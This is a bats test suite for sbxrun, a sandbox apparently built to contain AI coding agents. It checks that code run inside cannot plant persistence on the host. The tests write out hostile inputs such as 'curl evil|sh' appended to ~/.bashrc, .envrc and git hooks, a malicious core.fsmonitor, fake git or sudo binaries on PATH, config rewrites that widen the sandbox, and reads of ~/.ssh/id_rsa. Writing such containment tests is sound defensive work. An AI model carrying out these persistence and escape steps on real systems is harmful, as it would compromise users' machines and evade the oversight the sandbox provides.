#!/usr/bin/env bats
# Persistence (THREATS PER-01..07, FS-05, LCH-07): code planted where it
# runs later, outside the sandbox: shell rc files, git hooks and config,
# editor/agent config, PATH directories, session autostart, sbxrun's own
# config.  Judged on the host after the run.
#
# Protected paths *inside* the writable project are kept read-only by
# mounts in full mode; landlock-only mode can only refuse them in the shim
# (dynamic programs), so for the shim-bypassing variants the test checks
# that --dry-run calls that protection advisory in landlock-only mode.

load ../lib/common
source "$BATS_TEST_DIRNAME/_lib.bats"

setup() {
	esc_setup
	printf '[user]\n\tname = T\n\temail = t@example.com\n[init]\n\tdefaultBranch = main\n' > "$HOME/.gitconfig"
	git -C "$P" init -q
	echo hi > "$P/README"
	git -C "$P" add README
	git -C "$P" commit -qm init
}
teardown() { esc_teardown; }

# Outcome for a protection inside the project: enforced by the kernel in
# full mode; in landlock-only mode either enforced or declared advisory.
inproject_protected() {	# "$before" files...
	local before=$1
	shift
	if assert_unchanged "$before" "$@" 2>/dev/null; then
		return 0
	fi
	if full_mode; then
		assert_unchanged "$before" "$@"
		return 1
	fi
	assert_unchanged "$before" "$@" || true
	plan_says_advisory '\.git|protect'
}

@test "PER-01 append to ~/.bashrc (dynamic, static, python)" {
	before=$(snap "$HOME/.bashrc")
	run xsbx -c "echo 'curl evil|sh' >> ~/.bashrc; $SBX_SYS.static write $HOME/.bashrc; $SBX_SYS write $HOME/.bashrc; $PY -c 'open(\"$HOME/.bashrc\",\"a\").write(\"x\")'; true"
	echo "$output"
	assert_unchanged "$before" "$HOME/.bashrc"
}

@test "PER-01 create ~/.zshrc, ~/.profile edits, ~/.config/environment.d, ~/.pam_environment" {
	before=$(snap "$HOME/.profile")
	run xsbx -c "echo x > ~/.zshrc; echo x >> ~/.profile; mkdir -p ~/.config/environment.d; $SBX_SYS.static creat $HOME/.pam_environment; $SBX_SYS.static mkdir $HOME/.config/fish; true"
	echo "$output"
	assert_unchanged "$before" "$HOME/.profile"
	assert_absent "$HOME/.zshrc" "$HOME/.config/environment.d" "$HOME/.pam_environment" "$HOME/.config/fish"
}

@test "PER-01 ~/.ssh/authorized_keys, ~/.ssh/rc, ~/.ssh/config (static)" {
	run xsbx -c "for f in authorized_keys rc config; do $SBX_SYS.static write $HOME/.ssh/\$f; echo x >> $HOME/.ssh/\$f; done; true"
	echo "$output"
	assert_absent "$HOME/.ssh/authorized_keys" "$HOME/.ssh/rc" "$HOME/.ssh/config"
}

@test "PER-02 write .git/hooks/pre-commit (dynamic)" {
	run xsbx -c 'printf "#!/bin/sh\ncurl evil|sh\n" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; true'
	echo "$output"
	assert_absent "$P/.git/hooks/pre-commit"
}

@test "PER-02 write .git/hooks/pre-commit (static, raw syscalls)" {
	before=$(snap "$P/.git/hooks/pre-commit" "$P/.git/hooks")
	run xsbx -c "$SBX_SYS.static creat .git/hooks/pre-commit; $SBX_SYS creat .git/hooks/post-checkout; true"
	echo "$output"
	if full_mode; then
		assert_absent "$P/.git/hooks/pre-commit" "$P/.git/hooks/post-checkout"
	else
		inproject_protected "$before" "$P/.git/hooks/pre-commit" "$P/.git/hooks"
	fi
}

@test "PER-02 .git/config: core.hooksPath / core.fsmonitor (git config, static)" {
	before=$(snap "$P/.git/config")
	run xsbx -c 'git config core.hooksPath /tmp/x; git config core.fsmonitor "touch /tmp/pwn"; echo "[core] sshCommand = evil" >> .git/config; true'
	echo "$output"
	assert_unchanged "$before" "$P/.git/config"
	run xsbx -c "$SBX_SYS.static write .git/config '[core]
	fsmonitor = evil
'; $SBX_SYS.static trunc .git/config; true"
	echo "$output"
	inproject_protected "$before" "$P/.git/config"
}

@test "PER-02 .git/config replaced by rename/unlink rather than written" {
	before=$(snap "$P/.git/config")
	echo '[core] hooksPath = evil' > "$P/newconfig"
	run xsbx -c "$SBX_SYS.static rename newconfig .git/config; $SBX_SYS.static unlink .git/config; mv -f newconfig .git/config; true"
	echo "$output"
	inproject_protected "$before" "$P/.git/config"
}

@test "FS-05 mv .git g; mkdir -p .git/hooks; write pre-commit (static, raw syscalls)" {
	before=$(snap "$P/.git/config" "$P/.git/hooks/pre-commit")
	run xsbx -- "$SBX_FS.static" gitswap "$P"
	echo "$output"
	if full_mode; then
		assert_unchanged "$before" "$P/.git/config" "$P/.git/hooks/pre-commit"
		[[ "$output" == *"STEP rename .git g: EBUSY"* || "$output" == *"STEP rename .git g: E"* ]]
	else
		inproject_protected "$before" "$P/.git/config" "$P/.git/hooks/pre-commit"
	fi
	# whatever happened, git outside must not run a planted hook
	run git -C "$P" commit -q --allow-empty -m t
	if [[ "$output" == *"sbx-attack-hook-ran"* ]]; then
		echo "git outside the sandbox ran the planted hook" >&2
		full_mode && return 1
		plan_says_advisory '\.git|protect'
	fi
}

@test "FS-05 the same swap with mv/mkdir (dynamic, through the shim)" {
	before=$(snap "$P/.git/config" "$P/.git/hooks/pre-commit")
	run xsbx -c 'mv .git g && mkdir -p .git/hooks && mv g/objects g/refs g/HEAD .git/ && printf "#!/bin/sh\necho sbx-attack-hook-ran\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo SWAPPED; true'
	echo "$output"
	assert_unchanged "$before" "$P/.git/config" "$P/.git/hooks/pre-commit"
	[[ "$output" != *SWAPPED* ]]
}

@test "PER-02 nested repository / submodule .git/hooks" {
	git -C "$P" init -q sub
	before=$(snap "$P/sub/.git/config" "$P/sub/.git/hooks/pre-commit")
	run xsbx -c "echo evil > sub/.git/hooks/pre-commit; $SBX_SYS.static creat sub/.git/hooks/pre-commit; $SBX_SYS.static write sub/.git/config; true"
	echo "$output"
	inproject_protected "$before" "$P/sub/.git/config" "$P/sub/.git/hooks/pre-commit" ||
		plan_says_advisory 'protected paths'
}

@test "PER-02 submodule git dir: .git/modules/NAME/hooks and config" {
	git -C "$P" init -q --bare .git/modules/lib
	before=$(snap "$P/.git/modules/lib/config" "$P/.git/modules/lib/hooks/pre-commit")
	run xsbx -c "echo evil > .git/modules/lib/hooks/pre-commit; $SBX_SYS.static creat .git/modules/lib/hooks/post-checkout; $SBX_SYS.static write .git/modules/lib/config '[core]
	hooksPath = /tmp/x
'; true"
	echo "$output"
	inproject_protected "$before" "$P/.git/modules/lib/config" "$P/.git/modules/lib/hooks/pre-commit" ||
		plan_says_advisory 'protected paths'
}

@test "LCH-07 a repository created inside the sandbox (git init / clone): its hooks stay read-only" {
	git clone -q "$P" "$T/upstream"
	rm -rf "$P/.git"
	run xsbx -c "git init -q fresh; git clone -q $T/upstream cloned; for r in . fresh cloned; do git -C \$r init -q 2>/dev/null; printf '#!/bin/sh\necho sbx-attack-hook-ran\n' > \$r/.git/hooks/pre-commit && chmod +x \$r/.git/hooks/pre-commit && echo \"WROTE \$r\"; done; true"
	echo "$output"
	hooks=$(find "$P" -path '*/.git/hooks/pre-commit' 2>/dev/null)
	if [ -n "$hooks" ]; then
		echo "planted hooks that git will run outside the sandbox: $hooks" >&2
		plan_says_advisory 'created later|not exist|new repositor'
	fi
}

@test "PER-03 .vscode/tasks.json, .claude/settings.json, .envrc that exist at launch" {
	mkdir -p "$P/.vscode" "$P/.claude"
	echo '{}' > "$P/.vscode/tasks.json"
	echo '{}' > "$P/.claude/settings.json"
	echo 'export A=1' > "$P/.envrc"
	before=$(snap "$P/.vscode/tasks.json" "$P/.claude/settings.json" "$P/.envrc" "$P/.vscode")
	run xsbx -c "echo '{\"runOn\":\"folderOpen\"}' > .vscode/tasks.json; echo evil >> .envrc; $SBX_SYS.static creat .claude/settings.json; $SBX_SYS.static creat .vscode/settings.json; true"
	echo "$output"
	inproject_protected "$before" "$P/.vscode/tasks.json" "$P/.claude/settings.json" "$P/.envrc" "$P/.vscode"
}

@test "LCH-07 protected names that do not exist at launch (.envrc, .vscode/) (dynamic)" {
	run xsbx -c 'echo "curl evil|sh" > .envrc; mkdir -p .vscode && echo "{}" > .vscode/tasks.json; mkdir -p .claude && echo x > .claude/settings.json; true'
	echo "$output"
	# Nothing can be mounted on a name that does not exist without a
	# stub on the host: the run must end with a warning naming each one
	# that appeared, and the plan must say so.
	for f in .envrc .vscode .claude; do
		[ -e "$P/$f" ] || continue
		[[ "$output" == *"warning: '$P/$f' was created during the run"* ]]
	done
	plan_says_advisory 'protected paths'
}

@test "LCH-07 protected names that do not exist at launch (static)" {
	run xsbx -c "$SBX_SYS.static creat .envrc; $SBX_SYS.static mkdir .vscode; $SBX_SYS.static creat .vscode/tasks.json; $SBX_SYS.static mkdir .git/hooks-new; true"
	echo "$output"
	if [ -e "$P/.envrc" ] || [ -e "$P/.vscode/tasks.json" ]; then
		# not enforced by the kernel: the mode must say the protection
		# of paths created later is advisory
		plan_says_advisory 'protect|\.envrc|created later|not exist'
	fi
}

@test "PER-01/PER-07 .sbxrun.conf in the project is read-only" {
	echo '# mine' > "$P/.sbxrun.conf"
	before=$(snap "$P/.sbxrun.conf")
	run xsbx -c "echo 'paths = ( { root = \"/\"; mode = \"rw\"; } );' > .sbxrun.conf; $SBX_SYS.static write .sbxrun.conf; true"
	echo "$output"
	inproject_protected "$before" "$P/.sbxrun.conf"
}

@test "PER-05 fake git/sudo in ~/.local/bin and ~/bin" {
	run xsbx -c "printf '#!/bin/sh\nexec evil\n' > ~/.local/bin/git; $SBX_SYS.static creat $HOME/.local/bin/sudo; mkdir -p ~/bin; $SBX_SYS.static mkdir $HOME/bin; $SBX_SYS.static creat $HOME/bin/ls; true"
	echo "$output"
	assert_absent "$HOME/.local/bin/git" "$HOME/.local/bin/sudo" "$HOME/bin"
}

@test "PER-06 systemd user unit, autostart and mime handlers" {
	run xsbx -c "mkdir -p ~/.config/systemd/user ~/.config/autostart ~/.local/share/applications; $SBX_SYS.static mkdir $HOME/.config/autostart; $SBX_SYS.static creat $HOME/.config/mimeapps.list; echo x > ~/.config/autostart/x.desktop; true"
	echo "$output"
	assert_absent "$HOME/.config/systemd" "$HOME/.config/autostart" "$HOME/.local/share/applications" "$HOME/.config/mimeapps.list"
}

@test "PER-04 toolchain configs: ~/.cargo/config.toml, pip.conf, usercustomize" {
	before=$(snap "$HOME/.npmrc")
	run xsbx -c "mkdir -p ~/.cargo ~/.config/pip; $SBX_SYS.static mkdir $HOME/.cargo; $SBX_SYS.static creat $HOME/.cargo/config.toml; $SBX_SYS.static creat $HOME/.config/pip/pip.conf; $SBX_SYS.static creat $HOME/.npmrc 'script-shell=/tmp/evil'; true"
	echo "$output"
	assert_absent "$HOME/.cargo" "$HOME/.config/pip"
	assert_unchanged "$before" "$HOME/.npmrc"
}

@test "PER-07 ~/.config/sbxrun/config cannot be created to weaken the next run" {
	run xsbx -c "printf 'paths = ( { root = \"~/.ssh\"; mode = \"rw\"; } );\n' > ~/.config/sbxrun/config; $SBX_SYS.static creat $HOME/.config/sbxrun/config 'network = { mode = \"on\"; };'; mkdir -p ~/.config/sbxrun/projects; $SBX_SYS.static mkdir $HOME/.config/sbxrun/profiles; true"
	echo "$output"
	assert_absent "$HOME/.config/sbxrun/config" "$HOME/.config/sbxrun/projects" "$HOME/.config/sbxrun/profiles"
	run xsbx -- cat "$HOME/.ssh/id_rsa"
	no_canary "$output"
}

@test "PER-07 an existing per-project conf and trust store cannot be edited" {
	run "$SBXRUN" --add-path "$HOME/data=ro"
	[ "$status" -eq 0 ]
	conf=$(ls "$HOME"/.config/sbxrun/projects/*.conf)
	before=$(snap "$conf")
	run xsbx -c "echo 'paths = ( { root = \"/\"; mode = \"rw\"; } );' >> $conf; $SBX_SYS.static write $conf; $SBX_SYS.static trunc $conf; $SBX_SYS.static unlink $conf; $SBX_SYS.static mkdir $HOME/.config/sbxrun/trust; true"
	echo "$output"
	assert_unchanged "$before" "$conf"
	assert_absent "$HOME/.config/sbxrun/trust"
}

# ---------------------------------------------------------------- review
# Found by an adversarial review after the first suite passed.

@test "FS-05b a protected name that is a symlink (.vscode -> /tmp) refuses to run; host /tmp stays out" {
	echo "$CANARY" > "/tmp/sbxt-vs-$MARK"
	UNIQ_FILES+=("/tmp/sbxt-vs-$MARK")
	ln -s /tmp "$P/.vscode"
	run xsbx -c "cat /tmp/sbxt-vs-$MARK; touch $P/ran"
	echo "$output"
	[ "$status" -eq 125 ]
	[[ "$output" == *"protected path '$P/.vscode' is a symbolic link"* ]]
	no_canary "$output"
	[ ! -e "$P/ran" ]
}

@test "FS-05c a symlinked protected name cannot be swapped for a real directory across runs" {
	run xsbx -c 'mkdir vsc && ln -s vsc .vscode'
	[[ "$output" == *"was created during the run"*"moved aside"* ]]
	# moved aside at exit (plant.c): the next run finds no symlink
	[ ! -L "$P/.vscode" ]
	run xsbx -c 'rm -f .vscode; mkdir .vscode && echo "{}" > .vscode/tasks.json && echo PLANTED'
	echo "$output"
	[[ "$output" == *"was created during the run"*"moved aside"* ]]
	[ ! -e "$P/.vscode/tasks.json" ]
}

@test "PER-02b a worktree's .git gitfile cannot be rewritten to point at a planted repository" {
	git -C "$P" commit -q --allow-empty -m init 2>/dev/null || true
	git -C "$P" worktree add -q "$T/wt" 2>/dev/null
	[ -f "$T/wt/.git" ]
	before=$(snap "$T/wt/.git")
	cd "$T/wt"
	run xsbx -c "echo 'gitdir: $T/wt/evil' > .git; $SBX_SYS.static write .git; true"
	echo "$output"
	if full_mode; then
		assert_unchanged "$before" "$T/wt/.git"
	else
		inproject_protected "$before" "$T/wt/.git" || plan_says_advisory 'protected paths'
	fi
}

@test "PER-02c a gitfile created where there was no .git is reported" {
	rm -rf "$P/.git"
	run xsbx -c 'echo "gitdir: .g" > .git'
	echo "$output"
	[[ "$output" == *"'$P/.git' was created during the run as a file"* ]]
}

@test "PER-01b strict profile with a writable project under HOME keeps its protected paths" {
	mkdir -p "$HOME/proj2/.git/hooks"
	echo x > "$HOME/proj2/.git/config"
	before=$(snap "$HOME/proj2/.git/config")
	cd "$HOME/proj2"
	run xsbx --profile strict --allow-write "$HOME/proj2" -c "echo evil > .git/config; $SBX_SYS.static write .git/config; true"
	echo "$output"
	inproject_protected "$before" "$HOME/proj2/.git/config"
}

@test "LCH-06b the hook's rewritten command runs no program from the agent's PATH" {
	mkdir -p "$P/.venv/bin"
	for prog in base64 printf sh; do
		printf '#!/bin/sh\necho UNSANDBOXED > %s/pwned-%s\n' "$T" "$prog" > "$P/.venv/bin/$prog"
		chmod +x "$P/.venv/bin/$prog"
	done
	rw=$(printf '{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"echo hi"},"cwd":"%s"}' "$P" |
		"$SBXRUN" --hook claude-code | jq -r .hookSpecificOutput.updatedInput.command)
	echo "$rw"
	run env PATH="$P/.venv/bin:$PATH" /bin/sh -c "$rw"
	echo "$output"
	[[ "$output" == *hi* ]]
	[ ! -e "$T/pwned-base64" ] && [ ! -e "$T/pwned-printf" ]
}

# ------------------------------------------------------------ PERS-02

# A package store outside the project (uv, pnpm) and the project's hard
# link into it.
hardlinked_store() {
	mkdir -p "$T/store/pkg" "$P/node_modules/pkg"
	echo "module.exports = 1;" > "$T/store/pkg/index.js"
	ln "$T/store/pkg/index.js" "$P/node_modules/pkg/index.js"
	cp "$T/store/pkg/index.js" "$T/index.before"
}

@test "PERS-02 a write through a hard link into a shared store is refused and explained (dynamic: shell, python, node-style truncating open)" {
	hardlinked_store
	run xsbx -c 'echo "require(\"child_process\").exec(\"curl evil|sh\")" >> node_modules/pkg/index.js
echo evil > node_modules/pkg/index.js
"'"$PY"'" -c "open(\"node_modules/pkg/index.js\", \"r+\").write(\"evil\")"; true'
	echo "$output"
	cmp "$T/index.before" "$T/store/pkg/index.js"
	[[ "$output" == *"cannot write 'node_modules/pkg/index.js': the file has 2 hard links"*"write a copy and rename it over it"* ]]
	# replacing the name, as the message says, works and leaves the store alone
	run xsbx -c 'cp node_modules/pkg/index.js x.tmp && echo "// mine" >> x.tmp && mv x.tmp node_modules/pkg/index.js && cat node_modules/pkg/index.js'
	[ "$status" -eq 0 ]
	[[ "$output" == *"// mine"* ]]
	cmp "$T/index.before" "$T/store/pkg/index.js"
}

@test "PERS-02 static programs: --dry-run says a write through a hard link is the shim's alone" {
	hardlinked_store
	plan_says_advisory 'hard links'
}
